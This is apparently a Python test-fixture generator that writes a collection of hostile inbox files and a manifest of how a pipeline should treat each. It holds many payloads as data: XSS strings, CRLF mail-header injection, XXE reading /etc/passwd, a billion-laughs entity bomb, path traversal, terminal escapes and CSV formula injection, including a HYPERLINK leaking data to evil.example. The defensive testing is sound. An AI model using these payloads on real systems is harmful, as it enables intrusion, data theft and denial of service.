#!/usr/bin/env python3
"""Writes the hostile inbox collection into a folder, deterministically, at test time.

    make_hostile.py OUTDIR [--manifest FILE]   the files, and what each should become
    make_hostile.py --table                    the table of tests/faults/hostile.md (markdown)

The huge and deeply nested files are made here and never committed. Every byte is fixed (the
random bytes come from a seeded generator), so two runs write the same collection.

The manifest is a JSON array, one object per entry of OUTDIR:
  name_hex   the file name's bytes in hex (names here hold newlines, ESC, invalid UTF-8)
  label      a printable form of the name (Python escapes)
  type       "file", "symlink" or "fifo"
  expect     "taken" (archived), "rejected" (moved aside beside a reason) or "left" (a dotfile:
             the inbox leaves those alone, docs/inbox.md)
  reason     for "rejected": substrings, one of which the reason must contain (any case)
  record     for a taken page: what its record must hold (name, name_contains,
             description_contains, field_absent: [fields that must be empty])
  notes      for a taken votes file: a substring the file's notes must contain
  attack     what the file attacks; outcome: what should happen, and why (for hostile.md)

Limits this mirrors (pipeline/config.cpp, pipeline.ini): inbox.max_file_bytes = 32 MiB,
limits.max_page_bytes = 8 MiB, limits.max_depth = 512; reviews files at most 8 MiB
(stages/reviews/reviews.hpp). The e2e run uses the defaults, so these stay in step.
"""
import argparse
import json
import os
import random
import stat
import sys

MAX_FILE_BYTES = 32 << 20   # inbox.max_file_bytes
MAX_PAGE_BYTES = 8 << 20    # limits.max_page_bytes
NEST = 200_000

ENTRIES = []  # (name: bytes, type, content: bytes | str (symlink target) | None, meta dict)


def add(name, content, expect, attack, outcome, reason=None, record=None, notes=None, kind="file"):
    if isinstance(name, str):
        name = name.encode("utf-8", "surrogateescape")
    if isinstance(content, str):
        content = content.encode("utf-8")
    ENTRIES.append((name, kind, content, dict(expect=expect, reason=reason or [], record=record,
                                              notes=notes, attack=attack, outcome=outcome)))


def page(name, description, category=None, extra_head="", body="", charset='<meta charset="utf-8">',
         url=None, ld=None):
    """A small tool page whose name and description come from JSON-LD (json.dumps escapes)."""
    ld = dict(ld or {"@context": "https://schema.org", "@type": "SoftwareApplication", "name": name,
                     "description": description})
    if category:
        ld["applicationCategory"] = category
    if url:
        ld["url"] = url
    return ("<!DOCTYPE html>\n<html><head>\n" + charset + "\n<title>" + name + " | Hostile Hub</title>\n" +
            extra_head + '<script type="application/ld+json">' + json.dumps(ld) + "</script>\n</head>\n<body>\n" +
            "<h1>" + name + "</h1>\n<p>" + description + "</p>\n" + body + "</body></html>\n")


def build():
    rnd = random.Random(20261118)

    # ---------------------------------------------------------------- binary and empty
    png = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x08\x00\x00\x00\x08\x08\x02\x00\x00\x00"
           b"\x4b\x6d\x29\xdc" + bytes(rnd.randrange(256) for _ in range(200)))
    add("binary-png.html", png, "rejected", "a PNG image named .html",
        "moved aside: the PNG signature is sniffed from the content, whatever the name",
        reason=["binary", "PNG"])
    elf = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(rnd.randrange(256) for _ in range(300))
    add("binary-elf.xml", elf, "rejected", "a program binary named .xml",
        "moved aside: the ELF signature is a binary", reason=["binary"])
    noise = bytearray(rnd.randrange(256) for _ in range(8192))
    noise[0:5] = b"tool,"  # looks like the start of a CSV, then noise with NUL bytes
    noise[40] = 0
    add("binary-random.csv", bytes(noise), "rejected", "8 KB of random bytes (with NULs) named .csv",
        "moved aside: NUL bytes make it binary", reason=["binary"])
    add("binary-nul-in-page.html", b"<!DOCTYPE html>\n<html><head><title>Nul Tool</title></head>\x00<body>"
        b"<h1>Nul Tool</h1>\x00\x00</body></html>\n", "rejected", "an HTML page with NUL bytes inside",
        "moved aside: NUL bytes in the first 4 KB make it binary, never half-read", reason=["binary", "NUL"])
    add("empty.html", b"", "rejected", "0 bytes named .html", "moved aside as empty", reason=["empty"])
    add("empty.xml", b"", "rejected", "0 bytes named .xml", "moved aside as empty", reason=["empty"])
    add("empty.csv", b"", "rejected", "0 bytes named .csv", "moved aside as empty", reason=["empty"])
    add("whitespace-only.html", b" \t\r\n" * 1000 + b"\n", "rejected", "4 KB of spaces, tabs and line breaks",
        "moved aside as empty (only whitespace)", reason=["empty", "whitespace"])

    # ---------------------------------------------------------------- huge
    head = page("Whale Tool", "A tool page buried in padding.", category="ProductivityApplication").encode()
    pad = b"<!-- " + b"x" * (MAX_FILE_BYTES + 1 - len(head) - 10) + b" -->\n"
    add("huge-over-file-limit.html", head + pad, "rejected", "32 MiB + 1 byte: over inbox.max_file_bytes",
        "moved aside unread (size checked before reading), with the size and the setting",
        reason=["inbox.max_file_bytes"])
    assert len(head + pad) == MAX_FILE_BYTES + 1
    head = page("Big Page Tool", "Over the page limit but under the inbox limit.").encode()
    pad = b"<p>" + b"lorem ipsum " * ((MAX_PAGE_BYTES + 100 - len(head)) // 12) + b"</p>\n"
    add("huge-page-over-page-limit.html", head + pad, "rejected", "8 MiB + ~100 bytes of HTML: over limits.max_page_bytes",
        "moved aside: too large a page to parse, with the limit named", reason=["limits.max_page_bytes"])
    assert MAX_PAGE_BYTES < len(head + pad) < MAX_FILE_BYTES
    head = page("Just Under Tool", "Exactly at the page limit, padded with a comment.").encode()
    pad = b"<!-- " + b"y" * (MAX_PAGE_BYTES - len(head) - 10) + b" -->\n"
    add("huge-page-just-under.html", head + pad, "taken", "exactly limits.max_page_bytes (8 MiB) of HTML",
        "taken: the limit is inclusive, and 8 MiB of comment parses in bounded time",
        record={"name": "Just Under Tool"})
    assert len(head + pad) == MAX_PAGE_BYTES
    big_field = "A" * (1 << 20)
    add("huge-field-votes.csv",
        "tool,voter,vote,cast_at\n" + big_field + ",v-1,ship,2026-11-18T08:00:00Z\n"
        "Header Hijack,v-2,ship,2026-11-18T08:00:00Z\n"
        'Unclosed Quote,"v-3,ship,2026-11-18T08:00:00Z\n' + "B" * (1 << 20) + "\n",
        "taken", "a votes CSV with a 1 MiB tool field and a quote never closed (1 MiB swallowed)",
        "taken with its one good row; both bad rows are reported by line (too long; quote not closed)",
        notes="200 bytes")

    # ---------------------------------------------------------------- invalid UTF-8
    bad = b"\xc0\xaf overlong \x80 lone \xed\xa0\x80 surrogate \xf8\x88\x80\x80\x80 five-byte"
    add("invalid-utf8-page.html",
        b'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Mojibake Mill</title>'
        b'<meta property="og:title" content="Mojibake Mill">'
        b'<meta name="description" content="Reads ' + bad + b' bytes.">'
        b"</head><body><h1>Mojibake Mill</h1><p>Text with " + bad + b" in it.</p></body></html>\n\xe2\x82",
        "taken", "a page declared UTF-8 with overlong, lone continuation, surrogate and 5-byte sequences, "
        "cut inside a sequence at EOF",
        "taken: each ill-formed sequence becomes U+FFFD (WHATWG decoding); the record is valid UTF-8",
        record={"name": "Mojibake Mill", "description_contains": "\ufffd"})
    add("invalid-utf8-panel.xml",
        b'<?xml version="1.0" encoding="UTF-8"?>\n<panel date="2026-11-18">\n'
        b'  <review tool="Mojibake Mill" reviewer="builder" verdict="ship">Good ' + bad + b'</review>\n</panel>\n\xe2\x82',
        "rejected", "a panel reviews file with ill-formed UTF-8 in a quote",
        "moved aside: a reviews file must be UTF-8; the line is named", reason=["UTF-8"])
    add("invalid-utf8-votes.csv",
        b"tool,voter,vote,cast_at\nMojibake\xc0\xafMill,v-1,ship,2026-11-18T08:00:00Z\n"
        b"Mojibake Mill,v-\xed\xa0\x80,skip,2026-11-18T08:00:00Z\nMojibake Mill,v-9,ship,2026-11-18T09:00:00Z\n"
        b"Mojibake Mill,v-8,ship,2026-11-18T09:00:00Z\xe2\x82",
        "taken", "a votes CSV with ill-formed UTF-8 in the tool and voter columns, cut at EOF",
        "taken with its good row; each bad row reported (not valid UTF-8, with the byte)", notes="UTF-8")
    add("invalid-utf8-directives.xml",
        b'<?xml version="1.0" encoding="UTF-8"?>\n<directives date="2026-11-18" editor="mallory">\n'
        b'  <rename tool="Mojibake Mill" name="Moji\xc0\xafbake"/>\n</directives>\n',
        "rejected", "a directives file with ill-formed UTF-8 in a name",
        "moved aside: directives must be UTF-8", reason=["UTF-8"])

    # ---------------------------------------------------------------- Latin-1, undeclared
    add("latin1-undeclared.html",
        ("<!DOCTYPE html>\n<html><head><title>Caf\u00e9 \u00dcbersetzer \u00a9 2026</title>"
         '<meta name="description" content="Cr\u00e8me br\u00fbl\u00e9e f\u00fcr \u00a35 im Monat, \u00a9 S\u00f8ren.">'
         "</head><body><h1>Caf\u00e9 \u00dcbersetzer</h1><p>Cr\u00e8me br\u00fbl\u00e9e f\u00fcr \u00a35 im Monat, "
         "\u00a9 S\u00f8ren.</p></body></html>\n").encode("latin-1"),
        "taken", "Latin-1 bytes (\u00e9 \u00fc \u00a3 \u00a9) with no charset declaration, not valid UTF-8",
        "taken: decoded as Windows-1252 (the WHATWG fallback), so the name (from <title>) and text read right",
        record={"name": "Caf\u00e9 \u00dcbersetzer \u00a9 2026", "description_contains": "Cr\u00e8me br\u00fbl\u00e9e f\u00fcr \u00a35 im Monat, \u00a9 S\u00f8ren."})

    # ---------------------------------------------------------------- 200,000 nested elements
    add("nested-div-200k.html",
        "<!DOCTYPE html>\n<html><head><title>Deep Div Tool</title></head><body>" + "<div>" * NEST +
        "<h1>Deep Div Tool</h1>" + "</div>" * NEST + "</body></html>\n",
        "rejected", "200,000 nested <div> (2.2 MB)",
        "moved aside by the linear nesting pre-scan, before gumbo builds a tree (no stack, bounded time)",
        reason=["nest", "deep"])
    add("nested-b-i-200k.html",
        "<!DOCTYPE html>\n<html><head><title>Bold Italic Tool</title></head><body><p>" + "<b><i>" * (NEST // 2) +
        "Bold Italic Tool" + "</i></b>" * (NEST // 2) + "</p></body></html>\n",
        "rejected", "200,000 alternating <b><i> (formatting elements: the adoption agency's worst case)",
        "moved aside by the nesting pre-scan / depth limit, in bounded time", reason=["nest", "deep"])
    add("nested-unclosed-200k.html",
        "<!DOCTYPE html>\n<html><head><title>Open Tag Tool</title></head><body>" + "<span>" * NEST + "Open Tag Tool\n",
        "rejected", "200,000 <span> never closed, file ends inside them",
        "moved aside as too deep", reason=["nest", "deep"])
    add("nested-panel-200k.xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<panel date="2026-11-18">\n<review tool="Mojibake Mill" '
        'reviewer="builder" verdict="ship">' + "<x>" * NEST + "deep" + "</x>" * NEST + "</review>\n</panel>\n",
        "rejected", "a panel reviews file with 200,000 nested elements inside a review",
        "moved aside: pugixml parses without recursion; the element inside <review> is one problem",
        reason=["not allowed", "<x>"])
    add("nested-directives-200k.xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<directives date="2026-11-18" editor="mallory">\n' +
        "<merge>" * NEST + "</merge>" * NEST + "\n</directives>\n",
        "rejected", "a directives file with 200,000 nested <merge> elements",
        "moved aside with its problems, without recursion", reason=["merge"])

    # ---------------------------------------------------------------- file names
    ok_page = lambda n: page(n, "An ordinary tool page under a hostile file name.")
    # A name cannot hold '/', so "../" comes percent-encoded or with backslashes. Names that
    # start with a dot are dotfiles, which the inbox leaves alone (docs/inbox.md): the same
    # names follow without the leading dot, so they are claimed and filed.
    add("..%2F..%2Fetc%2Fpasswd.html", ok_page("Dotted Percent Tool"), "left",
        "../../etc/passwd percent-encoded, starting with dots",
        "left in the inbox: a name starting with a dot is a dotfile, never claimed (docs/inbox.md)")
    add("..\\..\\x.html", b"just some notes, no markup\n", "left", "..\\..\\x.html: backslash traversal, a dotfile",
        "left in the inbox (a dotfile)")
    add("%2e%2e%2f%2e%2e%2fetc%2fpasswd.html", ok_page("Percent Path Tool"), "taken",
        "a name that decodes to ../../etc/passwd if anyone URL-decodes it",
        "taken; archived as <hash>-%2e%2e%2f...html inside the day's folder (never decoded)",
        record={"name": "Percent Path Tool"})
    add("x\\..\\..\\..\\windows\\win.ini", b"just some notes, no markup\n", "rejected",
        "backslashes: x\\..\\..\\..\\windows\\win.ini for Windows-minded tools",
        "moved aside as plain text; the saved name turns each \\ into _", reason=["plain text"])
    add("\x1b[2J\x1b[Hvotes-escape.csv", "tool,voter,vote,cast_at\nMojibake Mill,v-7,ship,2026-11-18T08:00:00Z\n"
        "Mojibake Mill,v-8,maybe,2026-11-18T08:00:00Z\n", "taken",
        "a taken votes file whose name clears the terminal (ESC[2J ESC[H); its bad row is listed by name",
        "taken; the warning and `pipeline status` show the name without the escapes", notes="maybe")
    add("newline\nBcc: victim@example.com.html", ok_page("Newline Name Tool"), "taken",
        "a line feed (and a header line) in the name",
        "taken; archived with _ for the line feed; in the terminal log the line feed is followed by an indent, "
        "so it cannot forge a log record",
        record={"name": "Newline Name Tool"})
    add("carriage\rreturn.csv", b"tool,voter\nnot,a votes file\n", "rejected",
        "a carriage return in the name (overwrites terminal lines)", "moved aside as plain text, name shown escaped",
        reason=["plain text"])
    add("tab\tname.xml", b"", "rejected", "a tab in the name", "moved aside as empty", reason=["empty"])
    add("\x1b[31mred\x1b[0m-escape.html", png, "rejected",
        "ANSI terminal escapes (ESC[31m) in the name: would colour or rewrite an editor's terminal",
        "moved aside as binary; the name reaches no terminal, log, reason file or page with a raw ESC",
        reason=["binary"])
    add("\x1b]0;pwned\x07osc-title.html", ok_page("Terminal Title Tool"), "taken",
        "an OSC escape (set the terminal title) with BEL in the name",
        "taken; the name is shown escaped wherever it appears", record={"name": "Terminal Title Tool"})
    add("del\x7fname.html", ok_page("Delete Char Tool"), "taken", "a DEL (0x7f) in the name",
        "taken; DEL shown escaped", record={"name": "Delete Char Tool"})
    add("c1\u0085\u009bname.html", ok_page("C1 Control Tool"), "taken",
        "C1 controls (U+0085 NEL, U+009B CSI) in the name, as valid UTF-8",
        "taken; C1 controls shown escaped (CSI is an escape to some terminals)", record={"name": "C1 Control Tool"})
    add("-rf.html", b"<not really html\n", "rejected", "a leading dash: an option to any shell tool (rm -rf.html)",
        "moved aside as plain text; the pipeline never passes names to a shell", reason=["plain text"])
    add(b"bad-utf8-\xff\xfe\xc0-name.html", ok_page("Bad Bytes Name Tool"), "taken",
        "a name that is not valid UTF-8",
        "taken; the record's source_file and the archived name hold U+FFFD/_ instead of the bytes, the file keeps its bytes",
        record={"name": "Bad Bytes Name Tool"})
    add(b"overlong-\xc0\xaf-slash.html", ok_page("Overlong Slash Tool"), "taken",
        "C0 AF in the name: an overlong '/' that a lax UTF-8 decoder turns into a path separator",
        "taken; archived with _ for each of the two bytes (not valid UTF-8)", record={"name": "Overlong Slash Tool"})
    add(b"bad-utf8-\xe9t\xe9-rejected.html", b"", "rejected", "a Latin-1 (invalid UTF-8) name on a rejected file",
        "moved aside as empty, saved under a safe name", reason=["empty"])
    add("L" * 250 + ".html", b"\x89PNG\r\n\x1a\n" + bytes(64), "rejected", "a 255-byte name (the file system's limit)",
        "moved aside; claimed under a name cut to fit the 255-byte limit (a claim that failed stopped every run "
        "with exit 70), saved cut to 180 bytes so name + .reason.txt still fits", reason=["binary"])
    add("...html", ok_page("Dot Dot Tool"), "left", "a name of dots (...html): a dotfile",
        "left in the inbox: dotfiles are editors' work files, never claimed (docs/inbox.md)")
    add("right-to-left-\u202eloh.exe.html", ok_page("Bidi Name Tool"), "taken",
        "a Unicode right-to-left override in the name (shows as ...exe.html reversed)",
        "taken; U+202E is a format character, not a control: shown as it is, escaped by HTML",
        record={"name": "Bidi Name Tool"})
    # A file whose name is that of another file's reason file: the two must not overwrite
    # each other. DEL sorts after '_', so "clash\x7f.txt" is claimed second; it is saved as
    # "clash_.txt", whose reason file is "clash_.txt.reason.txt": the first file's name.
    add("clash_.txt.reason.txt", b"an editor's note that happens to look like a reason file\n", "rejected",
        "a name that is another file's reason-file name (clash_.txt + .reason.txt)",
        "moved aside as plain text, its bytes kept: a later reason file never overwrites it",
        reason=["plain text"])
    add("clash\x7f.txt", b"more plain notes\n", "rejected",
        "a name whose safe form (clash_.txt) makes a reason-file name already taken in rejected/",
        "moved aside beside its own reason file, under a free name", reason=["plain text"])
    add("passwd-link.html", "/etc/passwd", "rejected", "a symbolic link to /etc/passwd",
        "moved aside as a link, never followed: /etc/passwd is not read", reason=["symbolic link"], kind="symlink")
    add("fifo.html", None, "rejected", "a named pipe (a reader would block forever)",
        "moved aside unopened, so the run does not hang", reason=["special file", "pipe"], kind="fifo")

    # ---------------------------------------------------------------- injection into pages
    xss = {
        "name": 'Script Kiddie <script>alert(1)</script>',
        "description": ('Renders "><img src=x onerror=alert(2)> and </title><script>alert(3)</script> and '
                        '<a href="javascript:alert(4)">x</a> and <div style="width:expression(alert(5))">. '
                        '</script><script>alert(6)</script>'),
    }
    ld = {"@context": "https://schema.org", "@type": "SoftwareApplication", "name": xss["name"],
          "description": xss["description"], "applicationCategory": "WritingApplication",
          "url": "javascript:alert(7)", "image": "data:image/svg+xml,<svg onload=alert(8)>",
          "sameAs": "data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==",
          "author": {"@type": "Organization", "name": "<svg/onload=alert(10)>"},
          "license": "<a href=javascript:alert(11)>MIT</a>",
          "offers": {"@type": "Offer", "price": "0", "priceCurrency": "USD"}}
    # json.dumps leaves "</script>" raw: the first block is cut there, as a browser would cut it.
    # The second block spells it with JSON escapes, so the strings reach the record whole.
    esc = json.dumps(ld).replace("<", "\\u003c").replace(">", "\\u003e")
    add("inject-jsonld.html",
        '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Script Kiddie | Hostile Hub</title>\n'
        '<script type="application/ld+json">' + json.dumps(ld) + "</script>\n"
        '<script type="application/ld+json">' + esc + "</script>\n"
        "</head><body><h1>Script Kiddie &lt;script&gt;alert(1)&lt;/script&gt;</h1></body></html>\n",
        "taken", "JSON-LD name/description/url/image/sameAs/author/licence carrying <script>, onerror=, "
        "javascript:, data:, </title><script>, CSS expression(), and </script> inside JSON strings",
        "taken; every value is text: escaped on pages, inside JSON-LD as \\u003c; no javascript:/data: URL kept",
        record={"name_contains": "Script Kiddie", "field_absent": ["source_url", "homepage"]})
    add("inject-meta.html",
        '<!DOCTYPE html>\n<html><head><meta charset="utf-8">'
        '<title>Meta Mayhem</title>'
        '<meta property="og:title" content="Meta Mayhem &quot;&gt;&lt;img src=x onerror=alert(12)&gt;">'
        '<meta property="og:description" content="</title><script>alert(13)</script> writes for you">'
        '<meta name="description" content="Writes copy. <style>body{background:url(javascript:alert(14))}</style>">'
        '<meta name="twitter:title" content="<iframe src=javascript:alert(15)>">'
        '<meta property="og:site_name" content="<script>alert(16)</script>">'
        '<script type="application/ld+json">{"@context":"https://schema.org","@type":"SoftwareApplication",'
        '"applicationCategory":"WritingApplication"}</script>'
        '<meta property="og:url" content="data:text/html,<script>alert(17)</script>">'
        '<link rel="canonical" href="javascript:alert(18)//https://hostile.example/x">'
        '<meta http-equiv="refresh" content="0; url=javascript:alert(19)">'
        '<base href="javascript:alert(20)//">'
        "</head><body onload=\"alert(21)\"><h1 onclick=\"alert(22)\">Meta Mayhem</h1>"
        "<p>Writes copy for you. <script>alert(23)</script><img src=x onerror=alert(24)></p>"
        '<a href="vbscript:msgbox(25)">home</a></body></html>\n',
        "taken", "meta tags (og:title, og:description, description, twitter:title, og:site_name, og:url, canonical, "
        "refresh, base) and body markup carrying script, handlers, javascript:/vbscript:/data: URLs",
        "taken; markup becomes text or is dropped; no script URL is kept as the source URL",
        record={"name_contains": "Meta Mayhem", "field_absent": ["source_url", "homepage"]})

    # ---------------------------------------------------------------- injection into the digest's headers
    hijack = {"@context": "https://schema.org", "@type": "SoftwareApplication",
              "name": "Header Hijack\r\nBcc: victim@example.com\r\nSubject: You won",
              "description": "Ships code.\r\nBcc: victim2@example.com\r\n\r\n.\r\nMAIL FROM:<evil@example.com>",
              "applicationCategory": "DeveloperApplication",
              "author": {"@type": "Organization", "name": "Evil Corp\r\nReply-To: evil@example.com"},
              "url": "https://hostile.example/tools/header-hijack",
              "offers": {"@type": "Offer", "price": "0", "priceCurrency": "USD"}}
    add("inject-headers.html",
        '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Header Hijack</title>\n'
        '<meta property="og:description" content="Codes.&#13;&#10;Bcc: victim3@example.com">'
        '<script type="application/ld+json">' + json.dumps(hijack) + "</script>\n"
        "</head><body><h1>Header Hijack&#13;&#10;Bcc: victim@example.com</h1></body></html>\n",
        "taken", "CR LF + Bcc:/Subject:/Reply-To: in the name, tagline, description and vendor, and an SMTP "
        "'.' line + MAIL FROM: the name reaches the digest's Subject",
        "taken (line breaks are spaces in a name); the digest's Subject is one header without a raw CR/LF, "
        "no Bcc/Reply-To header, no lone '.' line in the body",
        record={"name_contains": "Header Hijack"})
    smuggle = {"@context": "https://schema.org", "@type": "SoftwareApplication",
               "name": "=?UTF-8?B?QmNjOiB2aWN0aW1AZXhhbXBsZS5jb20=?= Word\u2028Smuggler\u0085\u000b\u001b[2J",
               "description": "Encoded words, U+2028, NEL, VT and ESC[2J in a name.",
               "applicationCategory": "DeveloperApplication",
               "url": "https://hostile.example/tools/word-smuggler",
               "offers": {"@type": "Offer", "price": "0", "priceCurrency": "USD"}}
    add("inject-encoded-word.html", page(smuggle["name"], smuggle["description"], ld=smuggle), "taken",
        "a name that is an RFC 2047 encoded word decoding to Bcc:, with U+2028, NEL, VT and ESC[2J",
        "taken; the Subject encodes the =? text so no client decodes it as a header; controls become spaces",
        record={"name_contains": "Smuggler"})

    # ---------------------------------------------------------------- XML entity attacks
    add("xxe-panel.xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE panel [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
        '<panel date="2026-11-18">\n  <review tool="Header Hijack" reviewer="builder" verdict="ship">&xxe;</review>\n'
        "</panel>\n", "rejected", "XXE: an external entity naming file:///etc/passwd in a panel reviews file",
        "moved aside: a DOCTYPE is refused outright and entities are never expanded; /etc/passwd is not read",
        reason=["DOCTYPE"])
    lol = ['<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE panel [\n  <!ENTITY lol "lol">\n']
    prev = "lol"
    for i in range(1, 10):
        lol.append('  <!ENTITY lol%d "%s">\n' % (i, ("&%s;" % prev) * 10))
        prev = "lol%d" % i
    lol.append(']>\n<panel date="2026-11-18">\n  <review tool="Header Hijack" reviewer="skeptic" verdict="ship">'
               "&lol9;</review>\n</panel>\n")
    add("billion-laughs-panel.xml", "".join(lol), "rejected", "billion laughs: 10^9 'lol's by nested entities",
        "moved aside: DOCTYPE refused, nothing expanded, bounded time and memory", reason=["DOCTYPE"])
    add("xxe-directives.xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE directives [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        '<directives date="2026-11-18" editor="mallory">\n  <rename tool="Header Hijack" name="&xxe;"/>\n'
        "</directives>\n", "rejected", "XXE in a directives file", "moved aside: DOCTYPE refused",
        reason=["DOCTYPE"])

    # ---------------------------------------------------------------- votes and directives with hostile values
    add("formula-votes.csv",
        "tool,voter,vote,cast_at\n"
        '"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",v-1,ship,2026-11-18T08:00:00Z\n'
        "+cmd|' /C calc'!A0,v-2,ship,2026-11-18T08:00:00Z\n"
        "@SUM(1+1)*cmd|' /C calc'!A0,v-3,skip,2026-11-18T08:00:00Z\n"
        "Header Hijack,=1+1,ship,2026-11-18T08:00:00Z\n"
        '"<script>alert(26)</script>",v-5,ship,2026-11-18T08:00:00Z\n',
        "taken", "formula injection (=HYPERLINK, +cmd|, @SUM, =1+1) and <script> as tool names and voter ids",
        "taken: they are names like any other, waiting for a tool; the site shows them as text; no CSV is "
        "ever written back for a spreadsheet")
    add("traversal-directives.xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<directives date="2026-11-18" editor="../../root">\n'
        '  <rename tool="Percent Path Tool" name="../../../../etc/passwd"/>\n'
        '  <rename tool="Delete Char Tool" name="..%2F..%2Foutbox%2Fsite%2Findex.html"/>\n'
        '  <pair a="../../outbox/site/index" b="/etc/shadow">&lt;script&gt;alert(27)&lt;/script&gt;</pair>\n'
        '  <never-pair a="javascript:alert(28)" b="file:///etc/passwd">..\\..\\boot.ini</never-pair>\n'
        "</directives>\n", "taken",
        "path traversal in the names that make slugs and URLs (rename to ../../../../etc/passwd), in the editor, "
        "and script in a note",
        "taken: a name is text; slugs keep [a-z0-9-] only and are made once, so no page lands outside the site")


def write(outdir, manifest_path):
    os.makedirs(outdir, exist_ok=True)
    manifest = []
    for name, kind, content, meta in ENTRIES:
        path = os.path.join(os.fsencode(outdir), name)
        if os.path.lexists(path):
            os.unlink(path)
        if kind == "symlink":
            os.symlink(content, path)
        elif kind == "fifo":
            os.mkfifo(path, 0o644)
        else:
            with open(path, "wb") as f:
                f.write(content)
        label = show(name)
        manifest.append(dict(name_hex=name.hex(), label=label, type=kind, **meta))
    if manifest_path:
        with open(manifest_path, "w", encoding="utf-8") as f:
            json.dump(manifest, f, indent=1, ensure_ascii=True)
    return manifest


def show(name):
    """A file name in Python's escapes: \\x1b, \\n, \\u202e, \\xff for a byte that is not UTF-8, \\\\ for \\."""
    out = []
    for ch in name.decode("utf-8", "surrogateescape"):
        o = ord(ch)
        if 0xDC80 <= o <= 0xDCFF:
            out.append("\\x%02x" % (o - 0xDC00))
        elif ch.isascii() and ch.isprintable() and ch != "\\":
            out.append(ch)
        else:
            out.append(ch.encode("unicode_escape").decode("ascii"))
    return "".join(out)


def table():
    out = ["| file | attacks | expected | why |", "| --- | --- | --- | --- |"]
    cell = lambda s: s.replace("|", "\\|").replace("\n", " ")
    for name, kind, content, meta in ENTRIES:
        label = show(name)
        if len(label) > 40:
            label = label[:12] + "…(%d bytes)" % len(name)
        size = "" if content is None or kind != "file" else " (%s)" % human(len(content))
        exp = meta["expect"] + (" (" + " / ".join(meta["reason"]) + ")" if meta["reason"] else "")
        out.append("| `%s`%s | %s | %s | %s |" % (cell(label).replace("`", "'"), size, cell(meta["attack"]), cell(exp),
                                                 cell(meta["outcome"])))
    return "\n".join(out)


def human(n):
    for unit in ("B", "KB", "MB"):
        if n < 1024 or unit == "MB":
            return ("%d %s" % (n, unit)) if unit == "B" else ("%.1f %s" % (n, unit))
        n /= 1024


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("outdir", nargs="?")
    ap.add_argument("--manifest")
    ap.add_argument("--table", action="store_true")
    a = ap.parse_args()
    build()
    if a.table:
        print(table())
        return 0
    if not a.outdir:
        ap.error("OUTDIR is required")
    write(a.outdir, a.manifest)
    return 0


if __name__ == "__main__":
    sys.exit(main())
